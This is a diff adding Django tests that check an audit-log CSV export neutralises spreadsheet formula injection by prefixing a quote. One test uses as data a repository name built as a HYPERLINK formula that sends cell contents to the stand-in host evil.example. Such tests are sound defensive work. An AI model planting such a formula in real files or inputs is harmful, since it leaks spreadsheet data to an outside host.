@@ -268,3 +268,41 @@ def test_the_export_answers_400_naming_a_bad_moment(client, viewer, fmt, value):
     response = client.get(reverse(f"audit-export-{fmt}"), {"since": value})
     assert response.status_code == 400
     assert "'since' must be a date" in response.content.decode()
+
+
+# Issue 17, finding 10: spreadsheets run a cell that starts with =, +, -, @,
+# tab or carriage return as a formula (OWASP, CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _exported_rows(client, **params):
+    exported = client.get(reverse("audit-export-csv"), params)
+    return list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode(), newline="")))
+
+
+def test_the_csv_export_neutralises_a_repository_named_as_a_formula(client, admin):
+    from deployments.services.repositories import repository_import
+    from tests.archives import EXAMPLES
+
+    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
+    repository_import(name=name, path=str(EXAMPLES / "add_sub"), actor=admin)
+    client.force_login(admin)
+    header, *rows = _exported_rows(client, action="repository.")
+    (row,) = [row for row in rows if name in row[header.index("object_repr")]]
+    assert row[header.index("object_repr")].startswith("'" + name)
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+
+
+@pytest.mark.django_db
+def test_the_csv_export_neutralises_every_formula_start(client, viewer):
+    for start in FORMULA_STARTS:
+        audit(action="test.event", actor_name=f"{start}x", object_repr=f"{start}1+1")
+    client.force_login(viewer)
+    header, *rows = _exported_rows(client, action="test.event")
+    cells = [row[header.index(field)] for row in rows for field in ("actor", "object_repr")]
+    assert len(cells) == 2 * len(FORMULA_STARTS)
+    assert all(cell.startswith("'") for cell in cells), cells
+    # Only the quote is added: the value is still readable as it was.
+    assert sorted(cell[1:] for cell in cells) == sorted(
+        [f"{s}x" for s in FORMULA_STARTS] + [f"{s}1+1" for s in FORMULA_STARTS]
+    )
